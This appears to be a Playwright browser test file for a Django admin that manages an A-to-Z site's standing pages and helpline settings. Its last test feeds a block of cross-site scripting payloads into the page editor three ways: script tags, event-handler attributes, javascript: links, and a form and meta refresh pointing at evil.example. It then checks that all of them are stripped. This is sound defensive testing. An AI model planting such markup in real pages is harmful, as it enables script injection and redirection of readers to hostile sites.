"""The forms of the site's own words and of the standing pages, in a real browser."""

import pytest
from playwright.sync_api import expect

from tests import make
from tests.browser.test_access import violations
from tests.browser.test_accounts import AA
from tests.browser.test_admin import log_in, press
from topics.models import Site, StandingPage


def form_of(address):
    return f"/admin/topics/standingpage/{StandingPage.objects.get(url=address).pk}/change/"


def text_of(page):
    """Return the text that the editor of a standing page holds, once it can be typed into."""
    text = page.frame_locator("iframe.cke_wysiwyg_frame").locator("body")
    text.wait_for()
    return text


@pytest.fixture
def desk(page):
    """A browser page with an administrator logged in."""
    make.make_user("root", is_superuser=True)
    log_in(page, "root")
    return page


@pytest.mark.parametrize("width", [320, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_wrong_with_either_form(desk, scheme, width):
    desk.set_viewport_size({"width": width, "height": 800})
    desk.emulate_media(color_scheme=scheme)
    desk.goto("/admin/topics/site/1/change/")
    wrong = violations(desk, AA)
    desk.goto(form_of("/about/"))
    text_of(desk)
    # What the editor draws is not ours.
    wrong += [one for one in violations(desk, AA) if "cke_" not in one]

    assert wrong == []


def test_what_an_editor_writes_on_a_standing_page_is_read_at_once(desk):
    desk.goto(form_of("/about/"))
    text_of(desk).click()
    desk.keyboard.press("Control+End")
    desk.keyboard.type(" We meet on Tuesdays.")
    press(desk, "Save and continue editing")
    with desk.context.expect_page() as opened:
        desk.get_by_role("link", name="View on site").click(modifiers=["Control"])
    expect(opened.value.get_by_role("heading", level=1)).to_have_text("About this A to Z")
    expect(opened.value.locator("main")).to_contain_text("We meet on Tuesdays.")


def test_a_number_that_cannot_be_dialled_is_told_beside_its_field_and_then_mended(desk):
    desk.goto("/admin/topics/site/1/change/")
    desk.get_by_label("Helpline phone").fill("0808 800 80000")
    press(desk, "Save")
    expect(desk.locator(".field-helpline_phone .errorlist")).to_contain_text("is not a telephone number")
    desk.get_by_label("Helpline phone").fill("0808 800 8000")
    press(desk, "Save")
    expect(desk.locator(".field-helpline_hours .errorlist")).to_contain_text("Say when somebody answers")
    desk.get_by_label("Helpline hours").fill("Monday to Friday, 9am to 5pm")
    press(desk, "Save")
    expect(desk.locator(".messagelist")).to_contain_text("was changed successfully")
    assert Site.objects.get().helpline_phone == "0808 800 8000"


HOSTILE = """
<h3 onclick="window.harmed = 1" style="position:fixed">Opening <font color="red">hours</font></h3>
<p>Words that stay.<script>window.harmed = 1</script><img src="/static/none.png" onerror="window.harmed = 1"></p>
<p><a href="javascript:window.harmed = 1">Press</a> <a href="/a-z/">the index</a></p>
<svg onload="window.harmed = 1"></svg><iframe src="/admin/"></iframe>
<form action="https://evil.example"><input name="q"></form>
<style>main { display: none }</style><meta http-equiv="refresh" content="0;url=https://evil.example">
"""
WAYS = {
    "pasted": """html => {
        const editor = CKEDITOR.instances.id_content;
        const dataTransfer = new CKEDITOR.plugins.clipboard.dataTransfer();
        editor.fire("paste", { type: "html", method: "paste", dataValue: html, dataTransfer });
    }""",
    "set as the editor's text": "html => new Promise(done => CKEDITOR.instances.id_content.setData(html, done))",
    "posted past the editor": """html => {
        CKEDITOR.instances.id_content.destroy(true);
        document.getElementById("id_content").value = html;
    }""",
}


@pytest.mark.parametrize("way", WAYS)
def test_hostile_markup_reaches_no_reader_whatever_way_it_comes(desk, way):
    desk.goto(form_of("/about/"))
    text_of(desk)
    desk.evaluate(WAYS[way], HOSTILE)
    if way != "posted past the editor":
        expect(text_of(desk)).to_contain_text("Words that stay.")
    press(desk, "Save and continue editing")
    expect(desk.locator(".messagelist")).to_contain_text("was changed successfully")
    text_of(desk)
    assert desk.evaluate("window.harmed") is None

    desk.goto("/about/")
    main = desk.locator("main")
    expect(main).to_contain_text("Words that stay.")
    expect(desk.get_by_role("heading", name="Opening hours")).to_be_visible()
    expect(main.get_by_role("link", name="the index", exact=True)).to_have_attribute("href", "/a-z/")
    assert main.locator("script, img, svg, iframe, form, input, style, meta, font").count() == 0
    assert main.locator("[onclick], [onerror], [onload], [style], [href^='javascript']").count() == 0
    assert desk.evaluate("window.harmed") is None
    stored = StandingPage.objects.get(url="/about/").content
    assert [word for word in ("script", "harmed", "evil", "style", "<img", "<form") if word in stored] == []
